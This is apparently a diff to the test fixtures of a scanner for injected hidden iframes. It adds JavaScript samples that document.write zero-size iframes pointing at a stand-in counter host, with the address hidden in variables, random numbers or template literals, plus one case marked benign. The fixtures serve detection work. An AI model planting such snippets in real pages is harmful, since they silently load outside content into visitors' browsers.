@@ -395,6 +395,14 @@ WRITTEN_FRAMES: list[tuple[str, str]] = [
         _KIT_FRAME.encode()).decode() + "'));"),
     ("escaped quotes in a double-quoted string", 'document.write("'
      + _KIT_FRAME.replace('"', '\\"') + '");'),
+    # its address a variable's string constant, spliced into the tag
+    ("its address in a variable", "var u='http://stat-counter7.example/in.cgi?3'; document."
+     "write('<iframe src=\"'+u+'\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>');"),
+    ("its address a constant and a number", "var id = Math.floor(Math.random() * 1e6); var "
+     "u = 'http://stat-counter7.example/in.cgi?3&r=' + id; document.write('<iframe src=\"' + "
+     "u + '\" width=\"0\" height=\"0\"></iframe>');"),
+    ("its address in a template literal", 'const u = "http://stat-counter7.example/in.cgi?3";'
+     ' document.write(`<iframe src="${u}" width="0" height="0"></iframe>`);'),
 ]
 
 
@@ -432,6 +440,10 @@ WRITTEN_LEGITIMATE: list[tuple[str, str]] = [
      "window.location.host + '/counter.html\" width=0 height=0></iframe>');"),
     ("a scheme joined before the host", "document.write('<iframe src=\"' + proto + '//sync."
      "adpartner-x.example/usersync\" width=\"0\" height=\"0\"></iframe>');"),
+    # a name given two addresses is the script's choice when it runs: not read
+    ("a name given two addresses", "var u = 'http://stat-counter7.example/in.cgi?3'; if (w)"
+     " { u = 'https://player.tidevideo.example/embed/8812'; } document.write('<iframe src=\"'"
+     " + u + '\" width=\"0\" height=\"0\"></iframe>');"),
 ]
 
 
